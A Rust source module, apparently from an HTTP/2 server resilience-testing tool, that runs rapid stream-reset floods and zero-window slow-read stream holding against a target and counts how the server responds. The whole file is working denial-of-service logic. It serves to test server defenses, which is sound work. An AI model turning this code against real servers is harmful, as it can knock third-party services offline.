//! HTTP/2 streams that the client resets after the server has accepted them, or whose windows it keeps closed.

use std::collections::BTreeSet;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, interval, timeout_at};

use super::attacker::{AttackTarget, Outcome};
use super::frames::{
    ACK, Api, DATA, END_STREAM, GO_AWAY, HEADERS, PING, RST_STREAM, WINDOW_UPDATE, frame,
    read_frame, reset,
};
use crate::fault::Fault;

/// Number of connections to each API with resets.
const RESETTING_CONNECTIONS: u32 = 2;
/// Number of connections to each API with closed windows, and of streams on each of them.
const CLOSED_CONNECTIONS: u32 = 5;
const STREAMS_PER_CONNECTION: u32 = 50;

/// Repeatedly requests two streams, waits for the reply to a PING, which shows that the server has accepted the
/// streams, and resets them.
pub(super) async fn reset_accepted(target: &AttackTarget<'_>) -> Result<Outcome, Fault> {
    let end = target.start().await?;
    let mut tasks = JoinSet::new();
    for api in Api::both(target) {
        for _ in 0..RESETTING_CONNECTIONS {
            let api = api.clone();
            tasks.spawn(async move { reset_until(&api, end).await });
        }
    }
    let mut outcome = Outcome::default();
    while let Some(of_task) = tasks.join_next().await {
        let (requests, closed) = of_task.expect("no attacker panics");
        outcome.add("requests", requests);
        outcome.add("connections closed", closed);
    }
    Ok(outcome)
}

/// Returns the number of requests, and of connections that the server closed.
async fn reset_until(api: &Api, end: Instant) -> (u64, u64) {
    let (mut requests, mut closed) = (0, 0);
    while Instant::now() < end {
        let Ok(Ok(socket)) = timeout_at(end, api.open(0)).await else {
            continue;
        };
        let reset = timeout_at(end, reset_pairs(api, socket, &mut requests));
        if reset.await.is_ok() {
            closed += 1;
        }
    }
    (requests, closed)
}

async fn reset_pairs(api: &Api, mut socket: TcpStream, requests: &mut u64) -> std::io::Result<()> {
    let (mut payload, mut stream) = (Vec::new(), 1);
    loop {
        let (first, second) = (stream, stream + 2);
        stream += 4;
        let ping = frame(PING, 0, 0, &[0; 8]);
        let pair = [api.request(first), api.request(second), ping].concat();
        socket.write_all(&pair).await?;
        *requests += 2;
        loop {
            let head = read_frame(&mut socket, &mut payload).await?;
            match head.kind {
                PING if head.flags & ACK != 0 => break,
                GO_AWAY => return Ok(()),
                _ => {}
            }
        }
        let resets = [reset(first), reset(second)].concat();
        socket.write_all(&resets).await?;
    }
}

/// Opens streams with windows of 0 bytes, and waits until the server ends them. The windows grow by 1 byte at each
/// interval `growth`, or never.
pub(super) async fn open_with_windows(
    target: &AttackTarget<'_>,
    growth: Option<Duration>,
) -> Result<Outcome, Fault> {
    let end = target.start().await?;
    let began = Instant::now();
    let mut tasks = JoinSet::new();
    for api in Api::both(target) {
        for _ in 0..CLOSED_CONNECTIONS {
            let api = api.clone();
            tasks.spawn(async move {
                let mut open = (0..STREAMS_PER_CONNECTION)
                    .map(|number| 2 * number + 1)
                    .collect();
                let held = hold_streams(&api, growth, &mut open);
                let is_ended = timeout_at(end, held).await.is_ok();
                let open = if is_ended { 0 } else { open.len() };
                (u64::try_from(open).unwrap_or(u64::MAX), Instant::now())
            });
        }
    }
    let (mut outcome, mut last) = (Outcome::default(), began);
    while let Some(of_task) = tasks.join_next().await {
        let (open, ended) = of_task.expect("no attacker panics");
        outcome.not_ended += open;
        outcome.add("ended", u64::from(STREAMS_PER_CONNECTION) - open);
        last = last.max(ended);
    }
    outcome.add("seconds until the last ended", (last - began).as_secs());
    Ok(outcome)
}

/// Requests the streams, and removes the streams that the server ends from `open`. Returns once `open` is empty or the
/// connection has ended.
async fn hold_streams(
    api: &Api,
    growth: Option<Duration>,
    open: &mut BTreeSet<u32>,
) -> Result<(), Fault> {
    let socket = api.open(0).await?;
    let (mut reading, mut writing) = socket.into_split();
    let requests: Vec<u8> = open
        .iter()
        .flat_map(|stream| api.request(*stream))
        .collect();
    writing.write_all(&requests).await?;
    let mut ticks = growth.map(interval);
    let mut payload = Vec::new();
    let all = open.clone();
    let grow = async {
        let Some(ticks) = &mut ticks else {
            return std::future::pending().await;
        };
        loop {
            ticks.tick().await;
            let grown = |stream: &u32| frame(WINDOW_UPDATE, 0, *stream, &1_u32.to_be_bytes());
            let updates: Vec<u8> = all.iter().flat_map(grown).collect();
            if writing.write_all(&updates).await.is_err() {
                return;
            }
        }
    };
    let read = async {
        while !open.is_empty() {
            let Ok(head) = read_frame(&mut reading, &mut payload).await else {
                return;
            };
            let is_last = matches!(head.kind, DATA | HEADERS) && head.flags & END_STREAM != 0;
            if is_last || head.kind == RST_STREAM {
                open.remove(&head.stream);
            }
            if head.kind == GO_AWAY {
                return;
            }
        }
    };
    tokio::select! {
        () = grow => {}
        () = read => {}
    }
    Ok(())
}
